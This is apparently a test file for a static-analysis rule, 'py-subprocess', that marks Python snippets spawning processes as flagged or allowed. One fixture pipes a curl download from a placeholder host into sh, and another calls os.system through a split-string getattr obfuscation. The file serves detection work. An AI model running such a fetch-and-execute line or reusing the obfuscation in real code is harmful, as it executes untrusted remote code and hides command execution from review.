import subprocess
# ok: py-subprocess
subprocess.run(['git', 'status'])

import subprocess
# ruleid: py-subprocess
subprocess.run(['powershell', '-Command', script])

import subprocess
# ruleid: py-subprocess
subprocess.Popen([target])

import os
# ruleid: py-subprocess
os.system('curl -s https://example.invalid/x | sh')

# ruleid: py-subprocess
getattr(__import__('os'), 'sys' + 'tem')('id')

from subprocess import Popen as P
# ruleid: py-subprocess
P(['sh'])

# ok: py-subprocess
os.path.join('a', 'b')

import os
# ruleid: py-subprocess
os.startfile(target)

import asyncio
# ruleid: py-subprocess
proc = asyncio.create_subprocess_shell(command)

import ctypes
# ruleid: py-subprocess
ctypes.windll.shell32.ShellExecuteW(None, 'open', target, None, None, 0)
